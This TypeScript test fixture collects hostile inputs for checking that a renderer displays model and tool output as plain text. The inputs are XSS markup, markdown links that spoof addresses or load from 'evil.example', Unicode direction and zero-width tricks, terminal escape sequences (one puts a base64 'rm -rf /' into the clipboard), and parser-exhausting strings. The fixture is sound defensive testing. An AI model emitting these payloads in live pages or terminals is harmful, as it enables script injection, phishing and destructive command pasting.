/** What every attack wants to do, if it could: leave a sign on the page. */
const RUN = "window.pwned=1";
/** A server that is not there: a request to it is seen before it fails. */
export const EVIL = "evil.example";

const ESC = "\u001b";
const BEL = "\u0007";
const ST = `${ESC}\\`;

/** Something hostile that a model, a tool or a repository may say. */
export interface Attack {
  name: string;
  text: string;
  /** What a person has to be able to read of it, wherever it shows as plain text. */
  shows: string;
  /** The same where it is read as markdown, if that is something else. */
  marked?: string;
}

/** Markup that would run, load or draw over the page: all of it is text. */
const markup: Attack[] = [
  { name: "script", text: `<script>${RUN}</script>`, shows: `<script>${RUN}</script>` },
  {
    name: "script in capitals",
    text: `<SCRIPT SRC=//${EVIL}/a.js></SCRIPT>`,
    shows: `SRC=//${EVIL}/a.js`,
  },
  {
    name: "module",
    text: `<script type="module">import "https://${EVIL}/m.js"</script>`,
    shows: '<script type="module">',
  },
  { name: "img onerror", text: `<img src=x onerror="${RUN}">`, shows: "<img src=x onerror=" },
  {
    name: "img without an end",
    text: `<img src="https://${EVIL}/open.png" onerror=${RUN} `,
    shows: "open.png",
  },
  { name: "svg onload", text: `<svg onload="${RUN}">`, shows: "<svg onload=" },
  {
    name: "svg with a script",
    text: `<svg xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script></svg>`,
    shows: "<svg xmlns=",
  },
  {
    name: "svg with foreignObject",
    text: `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
    shows: "<foreignObject>",
  },
  {
    name: "svg use",
    text: `<svg><use href="https://${EVIL}/s.svg#x"></use></svg>`,
    shows: "<use href=",
  },
  {
    name: "mathml",
    text: `<math><mtext><table><mglyph><style><img src onerror=${RUN}></style></mglyph></table></mtext></math>`,
    shows: "<mglyph>",
  },
  { name: "style", text: "<style>*{display:none!important}</style>", shows: "<style>*{display:none" },
  { name: "import", text: `<style>@import url(https://${EVIL}/a.css);</style>`, shows: "@import url(" },
  {
    name: "overlay",
    text: `<div style="position:fixed;inset:0;z-index:9999;background:url(https://${EVIL}/bg.png)">Sign in again</div>`,
    shows: "position:fixed",
  },
  { name: "link to a style", text: `<link rel=stylesheet href=https://${EVIL}/l.css>`, shows: "<link rel=" },
  {
    name: "prefetch",
    text: `<link rel="dns-prefetch" href="//${EVIL}"><link rel="preconnect" href="//${EVIL}">`,
    shows: "dns-prefetch",
  },
  { name: "iframe", text: `<iframe src="https://${EVIL}/"></iframe>`, shows: "<iframe src=" },
  {
    name: "frame of javascript",
    text: '<iframe src="javascript:parent.pwned=1"></iframe>',
    shows: "javascript:parent",
  },
  {
    name: "object",
    text: `<object data="https://${EVIL}/o"></object><embed src="https://${EVIL}/e">`,
    shows: "<object data=",
  },
  { name: "base", text: `<base href="https://${EVIL}/">`, shows: "<base href=" },
  {
    name: "refresh",
    text: `<meta http-equiv="refresh" content="0;url=https://${EVIL}/">`,
    shows: "<meta http-equiv=",
  },
  {
    name: "form",
    text: `<form action="https://${EVIL}/f"><input name=p autofocus onfocus="${RUN}"><button>Go</button></form>`,
    shows: "<form action=",
  },
  {
    name: "details",
    text: `<details open ontoggle="${RUN}"><summary>More</summary></details>`,
    shows: "<details open ontoggle=",
  },
  {
    name: "video",
    text: `<video poster="https://${EVIL}/p.png" src="https://${EVIL}/v.mp4" autoplay onloadstart="${RUN}"></video>`,
    shows: "<video poster=",
  },
  { name: "ping", text: `<a href="/" ping="https://${EVIL}/ping">home</a>`, shows: 'ping="https' },
  { name: "comment", text: `<!-- hidden from you: ${RUN} -->`, shows: "<!-- hidden from you" },
  {
    name: "conditional comment",
    text: "<!--[if IE]><script>pwned=1</script><![endif]-->",
    shows: "<!--[if IE]>",
  },
  { name: "cdata", text: `<![CDATA[<img src=x onerror=${RUN}>]]>`, shows: "CDATA[" },
  {
    name: "end of our own tags",
    text: `</p></li></ol></main></div><script>${RUN}</script>`,
    shows: "</p></li></ol></main>",
  },
  {
    name: "entities",
    text: "&lt;img src=x onerror=pwned=1&gt; &#60;script&#62;",
    shows: "&#60;script&#62;",
    marked: "<script>",
  },
  { name: "template", text: `{{constructor.constructor('${RUN}')()}} \${${RUN}}`, shows: "{{constructor" },
];

/** Markdown that leads, loads or hides. */
const markdown: Attack[] = [
  { name: "javascript link", text: `[press me](javascript:${RUN})`, shows: "press me" },
  { name: "javascript in pieces", text: `[press this](java&#x0A;script:${RUN})`, shows: "press this" },
  { name: "javascript in capitals", text: `[press that](JaVaScRiPt:${RUN})`, shows: "press that" },
  { name: "javascript with a control", text: `[pressed](<\u0001javascript:${RUN}>)`, shows: "pressed" },
  {
    name: "data link",
    text: "[data](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)",
    shows: "data",
  },
  { name: "vbscript link", text: "[old one](vbscript:msgbox(1))", shows: "old one" },
  { name: "file link", text: "[a file](file:///etc/passwd)", shows: "a file" },
  { name: "blob link", text: `[a blob](blob:https://${EVIL}/1)`, shows: "a blob" },
  {
    name: "autolink of javascript",
    text: `<javascript:${RUN}>`,
    shows: "javascript:window",
  },
  {
    name: "link that says another address",
    text: `[https://bank.example](https://${EVIL}/login)`,
    shows: "https://bank.example",
    marked: `https://bank.example (${EVIL})`,
  },
  {
    name: "bold link that says another address",
    text: `[**https://shop.example**](https://${EVIL}/shop)`,
    shows: "https://shop.example",
    marked: `https://shop.example (${EVIL})`,
  },
  {
    name: "name before an @",
    text: `https://bank.example@${EVIL}/`,
    shows: `bank.example@${EVIL}`,
    marked: `(${EVIL})`,
  },
  {
    name: "link of another alphabet",
    text: "https://p\u0430ypal.example/",
    shows: "p\u0430ypal.example",
    marked: "(xn--pypal-4ve.example)",
  },
  {
    name: "link to another server without a scheme",
    text: `[near](//${EVIL}/near) [by](/\\${EVIL}/by)`,
    shows: "near",
    marked: `near (${EVIL})`,
  },
  { name: "title of a link", text: `[there](https://${EVIL}/t "${RUN}")`, shows: "there" },
  { name: "remote image", text: `![a cat](https://${EVIL}/pixel.png?who=you)`, shows: "a cat" },
  { name: "image by reference", text: `![dog][pic]\n\n[pic]: https://${EVIL}/dog.png`, shows: "dog" },
  {
    name: "image of data",
    text: `![drawn](data:image/svg+xml,<svg onload=${RUN}>)`,
    shows: "drawn",
  },
  {
    name: "image in a link",
    text: `[![badge](https://${EVIL}/b.svg)](https://${EVIL}/go)`,
    shows: "badge",
  },
  {
    name: "note that leads away",
    text: "A claim[^1].\n\n[^1]: Where it is from.",
    shows: "Where it is from.",
  },
  {
    name: "code that ends early",
    text: `\`\`\`html\n</code></pre><script>${RUN}</script>\n\`\`\``,
    shows: "</code></pre>",
  },
];

/** Characters that change how others are read. */
const characters: Attack[] = [
  { name: "override", text: "cod\u202egpj.exe\u202c", shows: "gpj.exe" },
  { name: "isolate", text: "if admin\u2067 } begin\u2069 done", shows: "begin" },
  { name: "embedding", text: "a\u202ab\u202bc\u202dd\u202c", shows: "a\ufffdb\ufffdc" },
  { name: "marks of direction", text: "x\u200ey\u200fz\u061cw", shows: "x\ufffdy\ufffdz\ufffdw" },
  { name: "no width", text: "pass\u200bword ad\u2060min", shows: "pass\ufffdword ad\ufffdmin" },
  { name: "joiners", text: "pay\u200dpal or pay\u200cpal", shows: "pay\ufffdpal or pay\ufffdpal" },
  { name: "hangul filler", text: "ok\u3164ok\u115fok", shows: "ok\ufffdok\ufffdok" },
  {
    name: "tags",
    text: "hello \u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}you",
    shows: "hello \ufffdyou",
  },
  { name: "variants", text: "smile\u{e0148}\u{e0155}\u{e015c}d", shows: "smile\ufffdd" },
  { name: "soft hyphen", text: "pay\u00adpal-soft", shows: "paypal-soft" },
  { name: "pile of marks", text: `z${"\u0336\u0335\u0489".repeat(60)}algo`, shows: "algo" },
  { name: "line of another kind", text: "one\u2028two\u2029three", shows: "onetwothree" },
];

/** Orders to terminals. */
const terminal: Attack[] = [
  { name: "colours", text: `${ESC}[31;1mred words${ESC}[0m`, shows: "red words" },
  { name: "erase", text: `kept words${ESC}[2J${ESC}[H${ESC}[2K`, shows: "kept words" },
  { name: "cursor", text: `${ESC}[10A${ESC}[99Dmoved words${ESC}7${ESC}8`, shows: "moved words" },
  {
    name: "OSC 8",
    text: `${ESC}]8;;https://${EVIL}/${ST}linked words${ESC}]8;;${ST}`,
    shows: "linked words",
  },
  { name: "OSC 52", text: `${ESC}]52;c;cm0gLXJmIC8=${BEL}after the clipboard`, shows: "after the clipboard" },
  { name: "title", text: `${ESC}]0;pwned title${BEL}after the title`, shows: "after the title" },
  {
    name: "colours of the ground",
    text: `${ESC}]4;1;#010203${BEL}${ESC}]10;#010203${BEL}${ESC}]11;#010203${BEL}${ESC}]12;#010203${BEL}after the palette`,
    shows: "after the palette",
  },
  {
    name: "questions",
    text: `${ESC}]10;?${BEL}${ESC}]4;1;?${BEL}${ESC}[c${ESC}[>c${ESC}[?25$p${ESC}[18tafter the questions`,
    shows: "after the questions",
  },
  { name: "DCS", text: `${ESC}P$q"p${ST}after the DCS`, shows: "after the DCS" },
  { name: "APC", text: `${ESC}_Gf=100;AAAA${ST}after the APC`, shows: "after the APC" },
  { name: "C1", text: "\u009b31mc one\u009b0m \u009d0;title\u009cafter C1", shows: "after C1" },
  {
    name: "string without an end",
    text: `${ESC}]0;it goes on\nthe line after it`,
    shows: "the line after it",
  },
  { name: "paste", text: `${ESC}[?2004h${ESC}[200~pasted words${ESC}[201~`, shows: "pasted words" },
  { name: "backspaces", text: `not this\b\b\b\b\b\b\b\bwhole${BEL}`, shows: "not thiswhole" },
];

/** What costs a page its time. */
const heavy: Attack[] = [
  { name: "deep quotes", text: `${">".repeat(10_000)} deep`, shows: "deep" },
  { name: "deep lists", text: `${"- ".repeat(5000)}far`, shows: "far" },
  { name: "brackets", text: `${"[".repeat(10_000)}inside`, shows: "inside" },
  { name: "links in links", text: `${"[".repeat(5000)}linked${"](x)".repeat(5000)}`, shows: "linked" },
  { name: "unclosed emphasis", text: `${"*a **b ".repeat(3000)}emphatic`, shows: "emphatic" },
  { name: "emphasis in emphasis", text: `${"*_".repeat(3000)}middle${"_*".repeat(3000)}`, shows: "middle" },
  {
    name: "a wide table",
    text: `${"|a".repeat(1500)}|\n${"|-".repeat(1500)}|\n${"|cell\n".repeat(1500)}`,
    shows: "cell",
  },
  { name: "an enormous line", text: `${"x".repeat(60_000)}tail`, shows: "tail" },
];

/** Those that fit everywhere, one below the other. */
export const attacks: readonly Attack[] = [...markup, ...markdown, ...characters, ...terminal];

/** Those that are long. */
export const heavies: readonly Attack[] = heavy;

/** A file with all of them. */
export const every = attacks.map(({ text }) => text).join("\n\n");

/** As much of them as a title or a button holds. */
export const brief = `<img src=x onerror="${RUN}"> [bank](javascript:${RUN}) \u202eexe\u200b ${ESC}[31m${ESC}]0;t${BEL}brief`;
export const briefShows = '<img src=x onerror="window.pwned=1">';

/** Characters that no text on a page has, as the source of a pattern. */
export const unwanted = String.raw`[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]`;
